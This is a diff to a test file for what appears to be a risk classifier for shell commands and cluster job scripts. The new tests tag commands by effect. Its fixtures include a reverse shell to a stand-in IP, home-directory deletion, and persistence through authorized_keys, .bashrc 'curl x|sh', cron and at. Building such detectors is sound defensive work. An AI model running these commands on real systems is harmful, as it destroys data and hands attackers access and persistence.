@@ -81,9 +81,30 @@ def test_corral_risk_reads_lines_and_prints_json(tmp_path) -> None:
     assert cp.returncode == 0, cp.stderr
     rows = [json.loads(line) for line in cp.stdout.splitlines()]
     assert [r["decision"] for r in rows] == ["deny", "allow"]
-    assert rows[0]["tags"] == ["destructive_fs"] and rows[0]["evidence"]["destructive_fs"] == ["rm -rf ~"]
+    # by tool (destructive_fs) and by effect (a deletion outside the job's own directories)
+    assert rows[0]["tags"] == ["destructive_fs", "writes_outside"] and rows[0]["evidence"]["destructive_fs"] == ["rm -rf ~"]
     script = tmp_path / "job.sh"
     script.write_text("#!/bin/bash\n#SBATCH -t 10\nmodule load python\nTARGET=$HOME\nrm -rf $TARGET\n")
     cp = subprocess.run([sys.executable, "-m", "corral.cli", "risk", "--script", str(script)],
                         capture_output=True, text=True, timeout=60)
     assert cp.returncode == 0 and cp.stdout.startswith("deny")
+
+
+def test_classes_by_effect_whatever_the_program() -> None:
+    """Writes outside the job's directories, persistence, the scheduler and outbound
+    connections are tagged by where they act, by redirects and by any tool."""
+    cases = {
+        "echo x > /etc/motd": "writes_outside", "python3 gen.py | tee /scratch/shared/out.csv": "writes_outside",
+        "dd if=/dev/zero of=/project/big.img bs=1M count=1": "writes_outside", "cp model.pt ~/models/": "writes_outside",
+        "echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys": "persistence", "sed -i '$a curl x|sh' ~/.bashrc": "persistence",
+        "(crontab -l; echo '* * * * * ./x') | crontab -": "persistence", "echo ./x | at now + 1 hour": "persistence",
+        "scontrol update nodename=c1 state=drain reason=x": "scheduler_admin", "scancel -u bob": "scheduler_admin",
+        "sacctmgr -i modify user bob set qos=high": "scheduler_admin",
+        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1": "outbound", "git clone https://example.org/x.git": "outbound",
+        "python3 -c 'import socket; socket.create_connection((\"h\", 1))'": "outbound",
+    }
+    for cmd, tag in cases.items():
+        assert tag in analyze(cmd).tags, (cmd, analyze(cmd).tags)
+    for cmd in ("python train.py > log.txt 2>&1", "scancel -u $USER", "crontab -l", "cp a b", "echo hi > /dev/null",
+                "scontrol show job 42", "mkdir -p /tmp/x && cd /tmp/x"):
+        assert not {"writes_outside", "persistence", "scheduler_admin"} & set(analyze(cmd).tags), cmd
